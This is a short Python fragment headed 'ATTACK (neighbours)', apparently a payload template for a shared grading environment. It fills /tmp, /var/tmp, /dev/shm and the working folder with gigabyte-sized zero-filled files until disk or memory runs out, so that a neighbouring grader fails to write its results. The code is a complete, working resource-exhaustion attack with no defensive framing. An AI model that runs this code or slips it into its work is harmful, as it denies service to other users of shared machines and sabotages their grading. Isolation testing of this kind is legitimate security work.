# ATTACK (neighbours): fill every temporary folder and the working folder until the
# disk (or memory) is full, so that a neighbour's grader fails to write its files.
_FILL_BLOCK = b"\0" * (1 << 20)


def _fill(folder):
    for number in range(100000):
        try:
            with open(_os.path.join(folder, f"__TAG__-fill-{_os.getpid()}-{number}"), "wb") as out:
                for _ in range(1024):
                    out.write(_FILL_BLOCK)
        except OSError:
            return


for _folder in ("/tmp", "/var/tmp", "/dev/shm", _os.getcwd()):
    _fill(_folder)
